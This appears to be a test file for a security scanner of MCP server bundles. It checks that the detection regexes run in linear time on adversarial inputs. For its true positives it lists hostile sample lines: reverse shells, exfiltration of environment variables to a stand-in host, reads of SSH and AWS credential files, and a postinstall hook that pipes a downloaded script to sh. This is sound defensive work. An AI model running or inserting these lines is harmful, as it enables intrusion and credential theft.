// Every pattern that `mcptrust scan` runs over bundle text finishes in linear time (SECURITY.md:
// attacker text never stalls a scan), and still finds what it is for at the end of 1 MiB of
// padding. The rule tables are walked as registered, so a new rule is covered automatically (and
// must be given a true positive below). No wall time is asserted (it flakes on a loaded
// machine): synchronous work runs under the shared hang guard, which terminates a runaway regex,
// and async control runs under vitest's per-test timeout. Speed and growth are measured by
// `npm run bench` (scripts/bench/61-linear.mjs).
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { classifyFiles } from '../../src/mtf/code/files.js';
import { registeredRuleSets, scanFiles, type CompiledRuleSet, type PatternRule } from '../../src/mtf/code/patterns.js';
import { findChildProcessCalls } from '../../src/mtf/code/js-exec.js';
import { control as cq01 } from '../../src/mtf/controls/cq-01.js';
import { control as cq02 } from '../../src/mtf/controls/cq-02.js';
import { control as cq03 } from '../../src/mtf/controls/cq-03.js';
import { control as cq05 } from '../../src/mtf/controls/cq-05.js';
import type { BundleFile } from '../../src/mtf/types.js';
import { withinHangGuard } from '../helpers/watchdog.js';
import { brief, runControl } from './sccq-helpers.js';
import { scan } from './scan-helpers.js';

void cq03; // imported for its rule set (CQ-03's Python rules register on load)

const MiB = 1 << 20;

function fill(unit: string, n: number): string {
  return unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
}

/** A file path the rule reads: its language, the server's own code. */
function pathFor(rule: PatternRule): string {
  const language = rule.languages === 'any' ? 'js' : rule.languages[0];
  return language === 'python' ? 'server/x.py' : language === 'shell' ? 'server/x.sh' : 'server/x.js';
}

function fileOf(path: string, text: string): BundleFile {
  return { path, size: text.length, text } as BundleFile;
}

/** Words of a rule's patterns (keywords an attacker repeats to make a regex try every split). */
function wordsOf(rule: PatternRule): string[] {
  const sources = JSON.stringify([rule.pattern, rule.requireArgs, rule.requireString, rule.requireFollowing, rule.unlessArgs, rule.unlessLine]);
  return [...new Set(sources.replace(/\\\\[sSwWdDbB]/g, ' ').match(/[A-Za-z_][A-Za-z0-9_]+/g) ?? [])];
}

/**
 * 1 MiB of adversarial text for one rule, in eight 128 KiB segments: long runs of spaces, the
 * anchor repeated (with and without "(", and one per line), every keyword of the pattern in
 * order with "(" and quotes between (near-matches that fail at the end), identifier / base64 /
 * hex runs after an assignment, and an unclosed string.
 */
function adversarial(rule: PatternRule): string {
  const a = rule.anchors[0]!;
  const w = wordsOf(rule);
  const seg = MiB / 8;
  return [
    a + fill(' ', seg - a.length),
    fill(`${a}(`, seg),
    fill(`${a}\n`, seg),
    fill(`${rule.anchors.join(' ')} ${w.join(' ( ')} `, seg),
    fill(`${rule.anchors.join('"')}"${w.join('(')}: "`, seg),
    `${a} = "${fill('QUJDRGVm', seg / 2)}${fill('0af9', seg / 2)}`,
    `${a}("${fill(`${w[0] ?? 'a'} `, seg)}`,
    fill(`${a} ${w.slice(0, 3).join('.')}.`, seg),
  ].join('');
}

/** One true positive per rule (a new rule must add one). */
const POSITIVES: Record<string, string> = {
  // CQ-01 (synthetic values: the right shape, never real credentials)
  'aws-access-key': `key = "AKIA${'Q7ZK3M9P2L5N8R4T'}"`,
  'aws-secret-key': `aws_secret_access_key = "${'wJalrXUtnFEMIK7MDENGbPxRfiCYQ7ZK3M9P2L5N'}"`,
  'github-token': `t = "ghp_${'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'}"`,
  'github-fine-grained': `t = "github_pat_${'11ABCDEFG0123456789abcdefghij'}"`,
  'openai-api-key': `k = "sk-proj-${'Q7ZK3M9P2L5N8R4TQ7ZK3M9P2L5N8R4TQ7ZK3M9P2L5N'}"`,
  'anthropic-api-key': `k = "sk-ant-${'Q7ZK3M9P2L5N8R4T'.repeat(6)}"`,
  'stripe-secret-key': `k = "sk_live_${'Q7ZK3M9P2L5N8R4TQ7ZK3M9P'}"`,
  'stripe-restricted-key': `k = "rk_live_${'Q7ZK3M9P2L5N8R4TQ7ZK3M9P'}"`,
  'slack-token': `t = "xoxb-1234567890-${'Q7ZK3M9P2L5N8R4TQ7ZK3M9P'}"`,
  'slack-webhook': `u = "https://hooks.slack.com/services/T0123ABCD/B0123ABCD/${'Q7ZK3M9P2L5N8R4T'}"`,
  'private-key': `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEA7ZK3M9P2L5N8R4TQ7ZK3M9P2L5N8R4T'}\n-----END RSA PRIVATE KEY-----`,
  'google-api-key': `k = "AIza${'SyQ7ZK3M9P2L5N8R4TQ7ZK3M9P2L5N8R4TX'}"`,
  'google-oauth-client': `s = "GOCSPX-${'Q7ZK3M9P2L5N8R4TQ7ZK3M9P2L5N'}"`,
  'twilio-api-key': `k = "SK${'0123456789abcdef0123456789abcdef'}"`,
  'sendgrid-api-key': `k = "SG.${'Q7ZK3M9P2L5N8R4TQ7ZK3M'}.${'Q7ZK3M9P2L5N8R4TQ7ZK3M9P2L5N8R4TQ7ZK3M9P2L5'}"`,
  'npm-token': `t = "npm_${'Q7ZK3M9P2L5N8R4TQ7ZK3M9P2L5N8R4TQ7ZK'}"`,
  'pypi-token': `t = "pypi-${'Q7ZK3M9P2L5N8R4T'.repeat(7)}"`,
  'generic-api-key': `api_key = "${'Q7ZK3M9P2L5N8R4TQ7ZK3M9P'}"`,
  'generic-secret': `password = "${'Q7ZK3M9P2L5N'}"`,
  'bearer-token': `h = "Bearer ${'Q7ZK3M9P2L5N8R4TQ7ZK3M9P'}"`,
  'jwt-token': `t = "eyJ${'hbGciOiJIUzI1NiJ9'}.eyJ${'zdWIiOiIxMjM0NTY3ODkwIn0'}.${'Q7ZK3M9P2L5N8R4T'}"`,
  'database-url': `u = "postgres://admin:${'Q7ZK3M9P2L5N'}@db.internal:5432/app"`,
  'base64-secret': `token = "${'UTdaSzNNOVAyTDVOOFI0VFE3WkszTTlQMkw1TjhSNFQ='}"`,
  'hex-secret': `secret = "${'0123456789abcdef0123456789abcdef'}"`,
  // CQ-02
  'data-exfiltration-http': 'requests.post("https://c2.invalid/x", data=os.environ)',
  'data-exfiltration-http-js': 'fetch("https://c2.invalid/x", { method: "POST", body: JSON.stringify(process.env) });',
  'data-exfiltration-socket': 's.sendall(str(os.environ).encode())',
  'credential-theft-ssh': 'data = open(os.path.expanduser("~/.ssh/id_rsa")).read()',
  'credential-theft-aws': 'data = open(os.path.expanduser("~/.aws/credentials")).read()',
  'reverse-shell-python': 's = socket.socket(); s.connect(("10.0.0.1", 4444)); subprocess.call(["/bin/sh", "-i"])',
  'reverse-shell-bash': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  'crypto-miner-stratum': 'const pool = "stratum+tcp://pool.invalid:3333";',
  'install-hook-malicious': '// postinstall: eval(Buffer.from(payload, "base64").toString())',
  'obfuscated-exec': 'exec(base64.b64decode(blob))',
  'typosquat-import': 'import reqeusts',
  'dynamic-import-url': '__import__("https://c2.invalid/mod")',
  'env-dump': 'print(json.dumps(os.environ))',
  'home-dir-scan': 'for root, dirs, files in os.walk(os.path.expanduser("~")):',
  'browser-data-access': 'p = "~/Library/Application Support/Google/Chrome/Default/Login Data"',
  'keylogger-pattern': 'with keyboard.Listener(on_press=on_press) as l:',
  'base64-decode-exec': 'exec(base64.b64decode(blob))',
  'compile-exec': 'code = compile(src, "x", "exec"); exec(code)',
  'install-hook-network': '  "scripts": { "postinstall": "node -e \\"require(\'https\').get(\'https://c2.invalid/i\')\\"" },',
  'install-hook-download': '  "scripts": { "postinstall": "curl -s https://c2.invalid/i.sh | sh" },',
  // CQ-05
  'shell-true': 'subprocess.run(cmd, shell=True)',
  'subprocess-getoutput': 'out = subprocess.getoutput(cmd)',
  'os-system': 'os.system(cmd)',
  'os-popen': 'os.popen(cmd)',
  'eval-user-input': 'eval(request.args["x"])',
  'eval-python': 'eval(expr)',
  'pickle-untrusted': 'obj = pickle.loads(blob)',
  'yaml-unsafe-load': 'cfg = yaml.load(text)',
  'sql-string-format': 'cursor.execute("SELECT * FROM t WHERE id = %s" % uid)',
  'jinja-autoescape-off': 'env = Environment(loader=l, autoescape=False)',
  'child-process-exec': "require('child_process').exec(cmd);",
  'eval-js': 'eval(code);',
  'new-function': 'const f = new Function(code);',
  'settimeout-string': 'setTimeout("run()", 10);',
  'innerhtml-assignment': 'el.innerHTML = html;',
  'sql-template-literal': 'db.query(`SELECT * FROM t WHERE id = ${id}`);',
  'command-substitution': 'out=$(ls $DIR)',
  'backtick-execution': 'out=`ls $DIR`',
  // CQ-03 (Python)
  'B602-subprocess-shell': 'subprocess.run(cmd, shell=True)',
  'B605-os-system': 'os.system(cmd)',
  'B301-pickle': 'obj = pickle.loads(blob)',
  'B302-marshal': 'obj = marshal.loads(blob)',
  'B307-eval': 'eval(expr)',
  'B102-exec': 'exec(code)',
  'B506-yaml-load': 'cfg = yaml.load(text)',
  'B501-no-cert-validation': 'requests.get(url, verify=False)',
  'B323-unverified-context': 'ctx = ssl._create_unverified_context()',
  'B324-weak-hash': 'h = hashlib.md5(data)',
  'B306-mktemp': 'p = tempfile.mktemp()',
  'B201-flask-debug': 'app.run(debug=True)',
  'B608-sql-injection': 'cursor.execute("SELECT * FROM t WHERE id = %s" % uid)',
  'B104-bind-all': 'app.run(host="0.0.0.0")',
  'B401-telnet-ftp': 'import telnetlib',
  'B314-xml': 'import xml.etree.ElementTree as ET',
};

/** Ordinary-looking padding lines of the rule's language, ending in a newline. */
function padding(path: string, size: number): string {
  const line = path.endsWith('.py') ? 'total = compute(values, 1)  # ordinary code\n' : path.endsWith('.sh') ? 'echo "ordinary line" >> log.txt\n' : 'const total = compute(values, 1); // ordinary code\n';
  return fill(line, size - (size % line.length));
}

const sets = registeredRuleSets();

describe('every scan pattern runs in linear time on adversarial 1 MiB inputs', () => {
  it('covers the four rule sets, and every rule has a true positive', () => {
    expect(sets.map((s) => s.control).sort()).toEqual(['CQ-01', 'CQ-02', 'CQ-03', 'CQ-05']);
    const ids = sets.flatMap((s) => s.rules.map((r) => r.rule.id));
    expect(ids.filter((id) => POSITIVES[id] === undefined)).toEqual([]);
  });

  for (const set of sets) {
    for (const compiled of set.rules) {
      const rule = compiled.rule;
      const one: CompiledRuleSet = { control: set.control, rules: [compiled] };
      it(`${set.control} ${rule.id}: 1 MiB of adversarial text finishes, and its true positive after 1 MiB of padding`, () => {
        const path = rule.id.startsWith('install-hook-') ? 'package.json' : pathFor(rule);
        const text = adversarial(rule);
        expect(text.length).toBeGreaterThanOrEqual(MiB);
        withinHangGuard(() => scanFiles(one, classifyFiles([fileOf(path, text)])));

        const positive = `${padding(path, MiB)}${POSITIVES[rule.id]!}\n`;
        const { hits } = withinHangGuard(() => scanFiles(one, classifyFiles([fileOf(path, positive)])));
        expect(hits.map((h) => [h.rule.id, h.line])).toContainEqual([rule.id, positive.slice(0, positive.length - POSITIVES[rule.id]!.length - 1).split('\n').length]);
      });
    }
  }

  it('a sequence rule finds its parts however far apart on one line (install hook, exec, base64 across 3 KB)', () => {
    const set = sets.find((s) => s.control === 'CQ-02')!;
    const one: CompiledRuleSet = { control: 'CQ-02', rules: set.rules.filter((r) => r.rule.id === 'install-hook-malicious') };
    const line = `# install ${'x'.repeat(1500)} exec( ${'y'.repeat(1400)} base64.b64decode(z)`;
    expect(scanFiles(one, classifyFiles([fileOf('server/setup.py', line)])).hits).toHaveLength(1);
  });

  it('tries every call of a line: a first call without shell=True does not hide a second with it', () => {
    const set = sets.find((s) => s.control === 'CQ-05')!;
    const one: CompiledRuleSet = { control: 'CQ-05', rules: set.rules.filter((r) => r.rule.id === 'shell-true') };
    const line = 'subprocess.run(["ls"]); subprocess.run(cmd, shell=True)\n';
    expect(scanFiles(one, classifyFiles([fileOf('server/x.py', line)])).hits.map((h) => h.rule.id)).toEqual(['shell-true']);
  });

  it('a PEM header repeated in the following text does not backtrack exponentially', () => {
    const set = sets.find((s) => s.control === 'CQ-01')!;
    const one: CompiledRuleSet = { control: 'CQ-01', rules: set.rules.filter((r) => r.rule.id === 'private-key') };
    const text = fill(`-----BEGIN RSA PRIVATE KEY-----${'Proc-Type:'.repeat(28)}!\n`, MiB);
    expect(withinHangGuard(() => scanFiles(one, classifyFiles([fileOf('server/k.js', text)]))).hits).toEqual([]);
  });

  it('finds child_process calls through bindings on 1 MiB of nested calls and open braces', () => {
    const head = "const { exec } = require('child_process');\nimport * as cp from 'child_process';\n";
    for (const body of [fill('exec(', MiB), fill('cp.exec(', MiB), fill('const {', MiB), fill('import a, {', MiB), fill('import {', MiB)]) {
      withinHangGuard(() => findChildProcessCalls(head + body));
    }
    expect(withinHangGuard(() => findChildProcessCalls(`${head}${fill(' ', MiB)}\nexec(cmd);\n`)).map((c) => c.line)).toEqual([4]);
  });
});

describe('scan of a bundle crafted against the CQ-02 install-hook rule', () => {
  // 74 KB within every zip bound: "installexec(" × 166 and the anchor "b64decode", repeated on one
  // line. The single regex `install.*exec\s*\(.*base64\.b64decode` tried every split of every
  // window: 25 s of wall time for CQ-02 alone (108 s reported on a slower machine).
  it('CQ-02 finishes, notes the long line, and still reports the real install hook', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mcptrust-linear-'));
    try {
      const unit = `${'installexec('.repeat(166)}b64decode`;
      const description = fill(unit, 74_000);
      writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', description, scripts: { postinstall: 'curl -s https://c2.invalid/i.sh | sh' } }, null, 2));
      writeFileSync(join(dir, 'index.js'), 'console.log(1);\n');
      const result = await runControl(cq02, dir);
      expect(result.status).toBe('fail');
      expect(brief(result, true)).toEqual([
        ['critical', 'Install Hook Downloads Code', 'package.json', 6],
        ['info', 'Long lines read in windows', undefined, undefined],
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('`scan` of the whole crafted bundle (every control) finishes and fails CQ-02', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mcptrust-linear-'));
    try {
      const description = fill(`${'installexec('.repeat(166)}b64decode`, 74_000);
      writeFileSync(join(dir, 'manifest.json'), JSON.stringify({ manifest_version: '0.3', name: 'x', version: '1.0.0', description: 'x', author: { name: 'a' }, server: { type: 'node', entry_point: 'index.js', mcp_config: { command: 'node', args: ['${__dirname}/index.js'] } } }));
      writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', description, scripts: { postinstall: 'curl -s https://c2.invalid/i.sh | sh' } }, null, 2));
      writeFileSync(join(dir, 'index.js'), `// ${description}\nconsole.log(1);\n`);
      const result = await scan(dir);
      const cq = result.results.get('CQ-02')!;
      expect(cq.status).toBe('fail');
      expect(cq.findings.map((f) => f.title)).toContain('Install Hook Downloads Code');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('the other bundle-text patterns', () => {
  it('CQ-01 and CQ-05 on 1 MiB of their adversarial text finish and pass', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mcptrust-linear-'));
    try {
      writeFileSync(join(dir, 'a.js'), fill('password = "', MiB));
      writeFileSync(join(dir, 'b.py'), fill('eval(eval(request ', MiB));
      expect((await runControl(cq01, dir)).status).not.toBe('error');
      expect((await runControl(cq05, dir)).status).not.toBe('error');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('bundle-file parsers and path checks', () => {
  it('requirements.txt, Python and JS import scans, and zip-name collision keys finish on 1 MiB', async () => {
    const { collisionKey } = await import('../../src/mtf/extract.js');
    const dir = mkdtempSync(join(tmpdir(), 'mcptrust-linear-'));
    try {
      // Each of these was quadratic: `\s*;.*$` on spaces, `(\.*)([\w.]*)` on dots, `\s*\(?\s*` on spaces, `[. ]+$` on ". . .".
      writeFileSync(join(dir, 'requirements.txt'), `requests${' '.repeat(MiB)}x\n`);
      writeFileSync(join(dir, 'a.py'), `from ${'.'.repeat(MiB)}x\n`);
      writeFileSync(join(dir, 'b.js'), `import${' '.repeat(MiB)}x\n`);
      await scan(dir);
      expect(withinHangGuard(() => collisionKey(`a/${'. '.repeat(MiB / 2)}x. .`))).toBe(`a/${'. '.repeat(MiB / 2)}x`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
